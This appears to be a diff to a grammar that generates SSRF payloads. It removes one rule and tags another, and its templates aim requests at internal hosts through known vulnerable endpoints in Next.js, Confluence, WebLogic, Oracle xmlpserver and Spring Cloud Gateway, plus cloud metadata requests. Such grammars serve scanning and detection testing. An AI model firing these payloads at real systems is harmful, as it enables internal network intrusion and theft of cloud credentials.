@@ -100,7 +100,6 @@ tail_path := *2 /proxy/«scheme»://«internal»«rest?»
   ¦ /«=proxy~fetch~image~render~preview»?«=url~u~uri~src~target~q»=«attack»
   ¦ /«=proxy~plugins~api/proxy~remote~tunnel»/«internal»«rest?» ¦ /«word»/«out|url»
   ¦ /«word»/«word»?«=url~uri~link~src~dest~redirect~path~target~host~feed~callback~webhook~img~image~page~site~domain~remote~endpoint~server~api~service~wsdl~xmlurl~image_url~imgurl~fileUrl~proxy~from~data_source»=«attack»
-  ¦ /unfurl?url=«out» ¦ /_image?href=«out» ¦ /image/unsafe/«dd»x«dd»/«scheme»://«internal»/
   ¦ /plugins/servlet/oauth/users/icon-uri?consumerUri=«out» ¦ /_next/image?url=«attack|url»&w=«int»&q=75
   ¦ /uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname=«ab»&operator=«attack|url»
   ¦ /xmlpserver/«word»?param=«attack» ¦ /«attacker»/«rand»
@@ -111,7 +110,7 @@ json_body := {"«urlkey»":"«attack|js»"} ¦ *2 {"«urlkey»":"«attack|js»",
   ¦ {"repository":{"url":"«attack|js»","branch":"main"}} ¦ {"html":"<iframe src=\"«attack|html|js»\"></iframe>"}
   ¦ {"id":«int»,"config":{"«urlkey»":"«attack|js»","timeout":«int»}}
   ¦ {"jsonrpc":"2.0","method":"«word».«word»","params":["«attack|js»"],"id":1}
-  ¦ {"predicates":[{"name":"Path","args":{"_genkey_0":"/«rand»/**"}}],"uri":"«attack|js»","order":0}
+  ¦ @2022 {"predicates":[{"name":"Path","args":{"_genkey_0":"/«rand»/**"}}],"uri":"«attack|js»","order":0}
   ¦ {"url":"«attack|js»","headers":{"Metadata-Flavor":"Google"}}
   ¦ {"connection":{"host":"«internal»","port":«inport»,"user":"«word»"}}
 urlkey := *4 url ¦ *2 uri ¦ link ¦ target ¦ endpoint ¦ host ¦ webhook_url ¦ callback ¦ callbackUrl ¦ imageUrl
